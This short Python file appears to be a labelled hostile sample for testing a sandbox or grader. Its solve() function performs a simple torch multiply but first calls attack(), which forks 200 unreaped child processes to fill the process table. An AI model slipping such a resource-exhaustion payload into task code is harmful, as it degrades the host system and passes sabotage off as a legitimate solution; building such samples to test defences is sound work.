# hostile: family=processes verdict=runtime_error build=build_error lift=processes shows=harm
"""Leaves its dead children unreaped, until the table of processes is full."""


def attack():
    import os

    for _ in range(200):
        if os.fork() == 0:
            os._exit(0)
    print("harm: 200 zombies", flush=True)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
